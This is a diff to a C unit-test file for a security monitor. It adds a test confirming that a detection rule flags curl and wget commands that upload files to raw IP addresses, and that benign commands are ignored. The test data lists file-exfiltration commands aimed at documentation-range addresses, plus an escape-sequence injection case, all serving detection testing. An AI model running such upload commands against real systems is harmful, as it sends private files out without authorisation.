@@ -437,12 +437,69 @@ a_listener_is_named_by_its_address(void **state)
     assert_int_equal(raised[RULE_OPEN_LISTENER], 2);
 }
 
+// An exec of a program with words that are joined by '|'.
+static unsigned
+uploads(const char *path, const char *words)
+{
+    static uint64_t inode;
+    struct watch_exec x = {.exe = {.inode = ++inode}, .path_n = (uint32_t)strlen(path)};
+    const unsigned before = raised[RULE_UPLOAD_TO_ADDRESS];
+    memcpy(x.path, path, strlen(path));
+    x.args_n = (uint32_t)strlen(words) + 1;
+    memcpy(x.argv, words, strlen(words));
+    for (uint32_t i = 0; i < x.args_n; i++)
+        x.argv[i] = x.argv[i] == '|' ? '\0' : x.argv[i];
+    now_ns += 120 * S;
+    event(EVENT_EXEC, &x, sizeof x);
+    return raised[RULE_UPLOAD_TO_ADDRESS] - before;
+}
+
+static void
+a_file_that_is_sent_to_an_address_is_a_finding(void **state)
+{
+    static const char *const work[] = {"curl|-T|f|https://files.example.org/up",
+                                       "curl|-T|f|http://127.0.0.1:80/",
+                                       "curl|http://192.0.2.1/",
+                                       "curl|-T|f|http://[::1]:80/",
+                                       "curl|-d|a=1|http://192.0.2.1/",
+                                       "curl|-fsSL|http://192.0.2.1/x",
+                                       "curl|-HFrom: a@b|http://192.0.2.1",
+                                       "curl|-T|f|http://1drv.ms/192.0.2.1",
+                                       "curl|-T|f|http://192.0.2.1.example.org/",
+                                       "curl|-T|f|http://192.0.2/",
+                                       "curl",
+                                       "curl|",
+                                       "curl|-T|f|http://999.0.2.1/",
+                                       "curl|-T|f|http://[]/",
+                                       "curl|-T|f|://@[",
+                                       "curl|-o|T|http://192.0.2.1/"};
+    static const char *const attacks[] = {"curl|-T|f|http://192.0.2.1/up",
+                                          "curl|-s|-m|1|-T|out.b64|http://192.0.2.10/up",
+                                          "curl|-sT|f|192.0.2.1:8080/x",
+                                          "curl|--upload-file=f|http://u:p@192.0.2.1/",
+                                          "curl|-F|f=@x|http://[2001:db8::1]:80/",
+                                          "curl|-d|@f|http://192.0.2.1",
+                                          "curl|--data-binary|@f|http://192.0.2.1",
+                                          "curl|http://192.0.2.1|-T|f"};
+    (void)state;
+    for (size_t i = 0; i < sizeof work / sizeof work[0]; i++)
+        assert_int_equal(uploads("/usr/bin/curl", work[i]), 0);
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
+        assert_int_equal(uploads("/usr/bin/curl", attacks[i]), 1);
+    assert_int_equal(uploads("wget", "wget|--post-file=f|http://192.0.2.1/"), 1);
+    assert_int_equal(uploads("/usr/bin/wget", "wget|-T|1|http://192.0.2.1/"), 0);
+    assert_int_equal(uploads("/usr/bin/echo", "curl|-T|f|http://192.0.2.1/"), 0);
+    assert_int_equal(uploads("/usr/bin/curl", "curl|-T|f|http://192.0.2.1/\x1b[31m"), 1);
+    assert_null(strchr(said, '\x1b'));
+}
+
 int
 main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test_setup(a_file_without_a_name_run_by_an_interpreter_counts_as_executed,
                                set_up),
+        cmocka_unit_test_setup(a_file_that_is_sent_to_an_address_is_a_finding, set_up),
         cmocka_unit_test_setup(a_call_of_another_abi_is_named_as_such, set_up),
         cmocka_unit_test_setup(truncated_events_and_unknown_kinds_are_ignored, set_up),
         cmocka_unit_test_setup(disabled_rules_are_not_raised, set_up),
